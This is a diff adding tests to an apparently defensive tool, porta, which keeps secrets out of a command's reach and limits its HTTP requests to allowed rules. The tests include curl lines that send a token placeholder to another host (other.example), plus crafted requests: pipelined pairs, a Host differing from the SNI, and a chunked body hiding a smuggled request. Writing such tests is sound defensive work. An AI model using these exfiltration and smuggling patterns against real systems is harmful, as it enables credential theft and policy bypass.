@@ -4,13 +4,15 @@ placeholder in its environment; the lab's HTTPS servers (netlab.py) record
 what they received.  Checked: the server sees the real value, the command
 sees only the placeholder (its environment and /proc/self/environ), a
 response header echoing the value comes back as the placeholder, another
-host's placeholder is refused with nothing reaching that host, and
---allow-http refuses what no rule allows.
+host's placeholder is refused with nothing reaching that host (in a
+header, a query string, a Basic header), and --allow-http refuses what no
+rule allows, on every request of a connection (AllowHttp).
 
 porta is found in PORTA_BIN (ctest sets it); porta verifies the lab's
 servers with SSL_CERT_FILE (the lab CA) in its own environment, and the
 command is given the system bundle back with --env (porta keeps a user's
 own SSL_CERT_FILE inside, which would not hold porta's CA)."""
+import base64
 import json
 import os
 import shutil
@@ -130,6 +132,76 @@ class Secrets(netlab.LabCase):
         self.assertEqual(self.lab.requests(self.servers["other"]), [])
         self.assertIn("(secret elsewhere)", r.err)
 
+    def elsewhere(self, attempt):
+        """Runs `attempt` (curl, its URL on other.example) beside a control
+        that sends other.example its own placeholder.  Returns the
+        attempt's status, the audit's secret-elsewhere records and the
+        result, having checked the control went through and that nothing of
+        the attempt reached other.example."""
+        audit = os.path.join(self.lab.home, "audit-%d-%s.jsonl" % (os.getpid(), self.id()))
+        self.addCleanup(lambda: os.path.exists(audit) and os.unlink(audit))
+        r = self.porta(["--audit", audit, "--secret", "GH_TOKEN@api.example",
+                        "--secret", "OTHER_TOKEN@other.example"],
+                       'curl -sS -o /dev/null -w "%{http_code}\\n" -u "x:$OTHER_TOKEN" '
+                       'https://other.example/control; '
+                       'curl -sS -o /dev/null -w "%{http_code}\\n" ' + attempt)
+        with open(audit) as f:
+            text = f.read()
+        self.assertNotIn(REAL, text, "the real value in the audit")
+        self.assertNotIn(REAL, r.out + r.err)
+        statuses = r.out.split()
+        # curl exits 0 on a 403 (no --fail): anything else is porta's own
+        # (a sanitizer build's report ends it with another code)
+        self.assertEqual(r.rc, 0, r.err)
+        self.assertEqual(statuses[0], "200", r.err)
+        # the control only: not a byte of the attempt, not even a part of
+        # its head (netlab records one)
+        seen = self.lab.requests(self.servers["other"])
+        self.assertEqual([(q.get("path"), q.get("http_error")) for q in seen],
+                         [("/control", None)], seen)
+        self.assertEqual([v for q in seen for (h, v) in q["headers"] if h == "Authorization"],
+                         ["Basic " + base64.b64encode(("x:" + OTHER_REAL).encode()).decode()])
+        records = [json.loads(l) for l in text.splitlines()
+                   if json.loads(l).get("reason") == "secret-elsewhere"]
+        return statuses[1], records, r
+
+    def test_placeholder_elsewhere_in_a_query_string(self):
+        status, records, r = self.elsewhere('"https://other.example/q?token=$GH_TOKEN"')
+        self.assertEqual(status, "403", r.err)
+        self.assertEqual(len(records), 1, records)
+        self.assertEqual((records[0]["kind"], records[0]["verdict"], records[0]["path"][:9]),
+                         ("http", "deny", "/q?token="))
+        self.assertIn("(secret elsewhere)", r.err)
+
+    def test_placeholder_elsewhere_in_a_basic_header(self):
+        status, records, r = self.elsewhere('-u "x-access-token:$GH_TOKEN" '
+                                            'https://other.example/basic')
+        self.assertEqual(status, "403", r.err)
+        self.assertEqual(len(records), 1, records)
+        self.assertEqual((records[0]["kind"], records[0]["verdict"], records[0]["path"]),
+                         ("http", "deny", "/basic"))
+        self.assertIn("(secret elsewhere)", r.err)
+
+    # A known gap: on a terminated connection the stderr line is "porta:
+    # refused GET https://other.example/q?token=<placeholder> (secret
+    # elsewhere)", no name.  Here conn.c's on_term_event drops the event
+    # that says which secret (terminate.c: proxy_term_event.secret).  Once
+    # struct proxy_secret carries the name (as on i14-wire since "netproxy:
+    # the --secret tripwire on every connection porta sniffs"), it is in the
+    # audit's detail and the 403's body, but decision_log_record()
+    # (decision/log.c) gives note_refused() no detail for kind http
+    # records, so the line still lacks it.
+    @unittest.expectedFailure
+    def test_placeholder_elsewhere_names_the_variable(self):
+        """The stderr line about a placeholder sent elsewhere names the
+        variable it stands for (GH_TOKEN), so the user knows which secret
+        went astray; never its value."""
+        status, records, r = self.elsewhere('"https://other.example/q?token=$GH_TOKEN"')
+        self.assertEqual(status, "403", r.err)
+        line = [l for l in r.err.splitlines() if "(secret elsewhere)" in l]
+        self.assertTrue(line, r.err)
+        self.assertIn("GH_TOKEN", line[0], r.err)
+
     def test_audit_records_each_request_and_no_value(self):
         audit = os.path.join(self.lab.home, "audit-%d.jsonl" % os.getpid())
         self.addCleanup(lambda: os.path.exists(audit) and os.unlink(audit))
@@ -179,6 +251,256 @@ class Secrets(netlab.LabCase):
         paths = [q.get("path") for q in self.lab.requests(self.servers["api"])]
         self.assertEqual(paths, ["/v1/a"])
         self.assertIn("--allow-http 'POST https://api.example/v1/a'", r.err)
+
+
+# A TLS client for one connection to api.example (the transparent path: no
+# proxy variable is read), verifying with the system store inside (which
+# holds porta's CA).  argv[1]: a JSON list of latin-1 strings, each sent with
+# ONE sendall ($GH_TOKEN in it replaced by the placeholder), after which the
+# client reads until it holds argv[2][i] complete responses in all (null:
+# until the stream ends).  Prints JSON: the bytes read back and how the
+# stream ended ("open": it had not).
+RAW_CLIENT = r"""
+import json, os, socket, ssl, sys
+sends, counts = json.loads(sys.argv[1]), json.loads(sys.argv[2])
+ctx = ssl.create_default_context()
+# a TCP close without close_notify is an error here, not an end of stream
+# (OpenSSL may be configured to take it for one: OP_IGNORE_UNEXPECTED_EOF)
+ctx.options &= ~getattr(ssl, "OP_IGNORE_UNEXPECTED_EOF", 0)
+s = ctx.wrap_socket(socket.create_connection(("api.example", 443), timeout=20),
+                    server_hostname="api.example", suppress_ragged_eofs=False)
+got, end = b"", "open"
+def responses(b):
+    n, off = 0, 0
+    while True:
+        head_end = b.find(b"\r\n\r\n", off)
+        if head_end < 0:
+            return n
+        length = 0
+        for line in b[off:head_end].split(b"\r\n")[1:]:
+            k, _, v = line.partition(b":")
+            if k.strip().lower() == b"content-length":
+                length = int(v)
+        if len(b) < head_end + 4 + length:
+            return n
+        n, off = n + 1, head_end + 4 + length
+for data, count in zip(sends, counts):
+    s.sendall(data.replace("$GH_TOKEN", os.environ["GH_TOKEN"]).encode("latin-1"))
+    while end == "open" and (count is None or responses(got) < count):
+        try:
+            chunk = s.recv(65536)
+        except ssl.SSLError as e:
+            end = "eof without close_notify" if "EOF" in str(e).upper() else "tls: %s" % e
+        except ConnectionResetError:
+            end = "reset"
+        except socket.timeout:
+            end = "timeout"
+        else:
+            if chunk:
+                got += chunk
+            else:
+                end = "close_notify"
+print(json.dumps({"got": got.decode("latin-1"), "end": end}))
+"""
+
+
+def split_responses(raw):
+    """[(status, {lower-case name: value}, body)] of the HTTP/1.1 responses
+    in raw, each framed by its Content-Length; what is left over, if any, is
+    one more item (None, {}, the bytes)."""
+    out = []
+    while raw:
+        head, sep, rest = raw.partition("\r\n\r\n")
+        if not sep:
+            out.append((None, {}, raw))
+            break
+        lines = head.split("\r\n")
+        headers = {}
+        for line in lines[1:]:
+            k, _, v = line.partition(":")
+            headers[k.strip().lower()] = v.strip()
+        length = int(headers.get("content-length", "0"))
+        out.append((int(lines[0].split(" ")[1]), headers, rest[:length]))
+        raw = rest[length:]
+    return out
+
+
+# the placeholder (RAW_CLIENT fills it in), which porta swaps upstream
+AUTH = "Authorization: Bearer $GH_TOKEN\r\n"
+
+
+def req(method, path, host="api.example", extra=""):
+    return "%s %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (method, path, host, extra)
+
+
+@unittest.skipUnless(PORTA and os.access(PORTA, os.X_OK), "PORTA_BIN names no porta binary")
+class AllowHttp(netlab.LabCase):
+    """--allow-http holds every request of a connection to the rules, not
+    just its first: a keep-alive connection, a pipelined pair, a Host that
+    is not the SNI's, a request after a chunked body.  Each runs with
+    GH_TOKEN bound to api.example and sent in each request, and an audit
+    that must never hold its real value."""
+    shared_lab = SHARED
+
+    RULES = ["--allow-http", "GET,POST https://api.example/v1/*"]
+
+    def run_in_porta(self, options, argv, audit=True):
+        """(result, audit records) of argv run in porta with options,
+        GH_TOKEN@api.example and the RULES; the audit is checked for the
+        real value here."""
+        path = os.path.join(self.lab.home, "audit-%d-%s.jsonl" % (os.getpid(), self.id()))
+        self.addCleanup(lambda: os.path.exists(path) and os.unlink(path))
+        env = self.lab.env(GH_TOKEN=REAL, OTHER_TOKEN=OTHER_REAL, SSL_CERT_FILE=self.lab.ca_file)
+        full = [PORTA, "run", "--env", "SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt",
+                "--audit", path, "--secret", "GH_TOKEN@api.example"] + self.RULES + options
+        if os.geteuid() == 0:
+            full.append("--allow-root")
+        r = self.lab.run(full + ["--"] + argv, env=env, timeout=120, cwd="/")
+        with open(path) as f:
+            text = f.read()
+        self.assertNotIn(REAL, text, "the real value in the audit")
+        # (r.out may hold it: api.example echoes the header in its body,
+        # which porta does not rewrite)
+        self.assertNotIn(REAL, r.err)
+        return r, [json.loads(l) for l in text.splitlines() if l.strip()]
+
+    def raw(self, sends, counts):
+        """RAW_CLIENT in porta: ([(status, headers, body)], how it ended,
+        the audit's http records as (method, path, verdict, reason))."""
+        r, audit = self.run_in_porta([], ["python3", "-c", RAW_CLIENT, json.dumps(sends),
+                                          json.dumps(counts)])
+        self.assertEqual(r.rc, 0, r.out + r.err)
+        res = json.loads(r.out)
+        http = [(a["method"], a["path"], a["verdict"], a["reason"])
+                for a in audit if a["kind"] == "http"]
+        return split_responses(res["got"]), res["end"], http, r
+
+    def api_seen(self):
+        return [(q["index"], q.get("method"), q.get("path"), q.get("http_error"))
+                for q in self.lab.requests(self.servers["api"])]
+
+    def auth_seen(self):
+        return [v for q in self.lab.requests(self.servers["api"])
+                for (h, v) in q.get("headers", []) if h.lower() == "authorization"]
+
+    def assert_refusal(self, resp, rule=None):
+        status, headers, body = resp
+        self.assertEqual((status, headers.get("x-porta-refused"), headers.get("connection")),
+                         (403, "1", "close"), body)
+        if rule:
+            self.assertIn("--allow-http '%s'" % rule, body)
+
+    def test_refused_second_request_on_a_keepalive_connection(self):
+        """http.client keeps one connection: the second request goes out on
+        the socket the first came back on (checked before its answer is
+        read), is answered 403 by porta, and never reaches the server."""
+        code = ("import http.client, json, os\n"
+                "c = http.client.HTTPSConnection('api.example', timeout=20)\n"
+                "h = {'Authorization': 'Bearer ' + os.environ['GH_TOKEN']}\n"
+                "c.request('GET', '/v1/first', headers=h)\n"
+                "r1 = c.getresponse(); r1.read()\n"
+                "sock, port = c.sock, c.sock.getsockname()[1]\n"
+                "c.request('GET', '/v2/second', headers=h)\n"
+                "same = c.sock is sock and c.sock.getsockname()[1] == port\n"
+                "r2 = c.getresponse()\n"
+                "print(json.dumps({'statuses': [r1.status, r2.status], 'same': same,\n"
+                "                  'refused': r2.getheader('X-Porta-Refused'),\n"
+                "                  'body': r2.read().decode()}))\n")
+        r, audit = self.run_in_porta([], ["python3", "-c", code])
+        self.assertEqual(r.rc, 0, r.out + r.err)
+        out = json.loads(r.out)
+        self.assertEqual((out["statuses"], out["same"], out["refused"]), ([200, 403], True, "1"),
+                         out)
+        self.assertIn("--allow-http 'GET https://api.example/v2/second'", out["body"])
+        self.assertEqual(self.api_seen(), [(0, "GET", "/v1/first", None)])
+        self.assertEqual(self.auth_seen(), ["Bearer " + REAL])
+        self.assertEqual([(a["method"], a["path"], a["verdict"], a["reason"])
+                          for a in audit if a["kind"] == "http"],
+                         [("GET", "/v1/first", "allow", "allow"),
+                          ("GET", "/v2/second", "deny", "http-no-rule")])
+
+    def test_pipelined_pair_allowed_then_refused(self):
+        """Both heads in one write: the allowed one's answer first, then
+        porta's 403 (terminate.c: a refusal waits for the earlier
+        responses), then close_notify; the server saw the first only."""
+        resps, end, http, _ = self.raw([req("GET", "/v1/a", extra=AUTH) +
+                                        req("GET", "/v2/b", extra=AUTH)], [None])
+        self.assertEqual([x[0] for x in resps], [200, 403], resps)
+        self.assertIsNone(resps[0][1].get("x-porta-refused"))
+        self.assert_refusal(resps[1], "GET https://api.example/v2/b")
+        self.assertEqual(end, "close_notify")
+        self.assertEqual(self.api_seen(), [(0, "GET", "/v1/a", None)])
+        self.assertEqual(self.auth_seen(), ["Bearer " + REAL])
+        self.assertEqual(http, [("GET", "/v1/a", "allow", "allow"),
+                                ("GET", "/v2/b", "deny", "http-no-rule")])
+
+    def test_pipelined_pair_refused_then_allowed(self):
+        """The refused head first: porta answers 403 and closes, and the
+        allowed head behind it is never read (terminate.c, refuse()):
+        nothing at the server, no answer for it, no audit record of it."""
+        resps, end, http, _ = self.raw([req("GET", "/v2/b", extra=AUTH) +
+                                        req("GET", "/v1/a", extra=AUTH)], [None])
+        self.assertEqual([x[0] for x in resps], [403], resps)
+        self.assert_refusal(resps[0], "GET https://api.example/v2/b")
+        self.assertEqual(end, "close_notify")
+        self.assertEqual(self.api_seen(), [])
+        self.assertEqual(http, [("GET", "/v2/b", "deny", "http-no-rule")])
+
+    def test_host_other_than_the_sni_refused(self):
+        """On a connection opened to api.example (SNI), a request whose
+        Host is other.example, a host the rules allow too, is refused after
+        an ordinary request on the same connection went through: neither
+        server sees it."""
+        self.RULES = self.RULES + ["--allow-http", "GET,POST https://other.example/*"]
+        resps, end, http, _ = self.raw([req("GET", "/v1/ok", extra=AUTH),
+                                        req("GET", "/v1/fronted", host="other.example",
+                                            extra=AUTH)], [1, None])
+        self.assertEqual([x[0] for x in resps], [200, 403], resps)
+        self.assert_refusal(resps[1])
+        self.assertIn("another host", resps[1][2])
+        self.assertEqual(end, "close_notify")
+        self.assertEqual(self.api_seen(), [(0, "GET", "/v1/ok", None)])
+        self.assertEqual(self.lab.requests(self.servers["other"]), [])
+        self.assertEqual(http, [("GET", "/v1/ok", "allow", "allow"),
+                                ("GET", "/v1/fronted", "deny", "host-mismatch")])
+
+    def chunked_then(self, second):
+        """A chunked POST whose body reads as a request (to a path no rule
+        allows), then `second`, in one write."""
+        inner = req("GET", "/v2/secret", extra="X-Smuggled: 1\r\n")
+        post = ("POST /v1/upload HTTP/1.1\r\nHost: api.example\r\n" + AUTH +
+                "Transfer-Encoding: chunked\r\n\r\n" +
+                "%x\r\n%s\r\n5\r\ntail.\r\n0\r\n\r\n" % (len(inner), inner))
+        return inner, post + second
+
+    def test_chunked_body_then_an_allowed_request(self):
+        inner, data = self.chunked_then(req("GET", "/v1/next", extra=AUTH))
+        resps, end, http, _ = self.raw([data], [2])
+        self.assertEqual([x[0] for x in resps], [200, 200], resps)
+        self.assertEqual(end, "open")
+        seen = self.lab.requests(self.servers["api"])
+        self.assertEqual([(q["index"], q.get("method"), q.get("path"), q.get("http_error"))
+                          for q in seen],
+                         [(0, "POST", "/v1/upload", None), (1, "GET", "/v1/next", None)])
+        # the body passed as body, byte for byte: no record of its request
+        # line anywhere
+        self.assertEqual(seen[0]["body"], inner + "tail.")
+        self.assertEqual(self.auth_seen(), ["Bearer " + REAL] * 2)
+        self.assertEqual(http, [("POST", "/v1/upload", "allow", "allow"),
+                                ("GET", "/v1/next", "allow", "allow")])
+
+    def test_chunked_body_then_a_refused_request(self):
+        inner, data = self.chunked_then(req("DELETE", "/v1/next", extra=AUTH))
+        resps, end, http, _ = self.raw([data], [None])
+        self.assertEqual([x[0] for x in resps], [200, 403], resps)
+        self.assert_refusal(resps[1], "DELETE https://api.example/v1/next")
+        self.assertEqual(end, "close_notify")
+        seen = self.lab.requests(self.servers["api"])
+        self.assertEqual([(q["index"], q.get("method"), q.get("path"), q.get("http_error"))
+                          for q in seen], [(0, "POST", "/v1/upload", None)])
+        self.assertEqual(seen[0]["body"], inner + "tail.")
+        self.assertEqual(http, [("POST", "/v1/upload", "allow", "allow"),
+                                ("DELETE", "/v1/next", "deny", "http-no-rule")])
 
 
 FLAWED = {"unknown-ca": ("203.0.113.44", "unknown certificate authority"),
